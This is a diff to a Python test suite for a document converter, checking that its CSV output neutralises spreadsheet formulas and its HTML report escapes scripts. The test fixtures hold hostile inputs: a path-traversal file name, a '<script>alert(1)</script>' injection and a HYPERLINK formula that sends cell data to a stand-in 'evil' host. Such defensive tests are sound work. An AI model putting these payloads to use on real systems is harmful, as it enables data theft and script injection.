@@ -23,7 +23,7 @@ def test_tab_and_cr_variants_are_neutralised(value):
 
 
 def _plan(folder: Path) -> Path:
-    rows = ["Improvement plan ../../escape.csv", "Action\tLead\tTimescale",
+    rows = ["Improvement plan ../../escape.csv <script>alert(1)</script>", "Action\tLead\tTimescale",
             *(f"{v} the policy\t{v}\tMay 2016" for v in HOSTILE)]
     path = folder / "plan.txt"
     path.write_text("\n".join(rows) + "\n", encoding="utf-8")
@@ -38,6 +38,21 @@ def test_csv_neutralises_formulas_and_sqlite_keeps_the_text(tmp_path):
     assert leads and all(v.startswith("'") for v in leads if v[:1] in "=+-@＝")
     stored = {r[0] for r in sqlite3.connect(out / "plans.sqlite").execute("SELECT lead FROM actions")}
     assert "=HYPERLINK(\"http://evil/\"&A1)" in stored and "@SUM(A1:A9)" in stored
+
+
+def test_parquet_keeps_the_text_as_printed(tmp_path):
+    pq = pytest.importorskip("pyarrow.parquet")
+    out = tmp_path / "out"
+    planx.convert(_plan(tmp_path), out=out, formats={"parquet"})
+    leads = pq.read_table(out / "actions.parquet").column("lead").to_pylist()
+    assert "=HYPERLINK(\"http://evil/\"&A1)" in leads and "@SUM(A1:A9)" in leads
+
+
+def test_report_escapes_document_text(tmp_path):
+    out = tmp_path / "out"
+    planx.convert(_plan(tmp_path), out=out)
+    if (out / "report.html").is_file():
+        assert "<script>alert" not in (out / "report.html").read_text(encoding="utf-8")
 
 
 def test_output_names_are_fixed_whatever_the_documents_say(tmp_path):
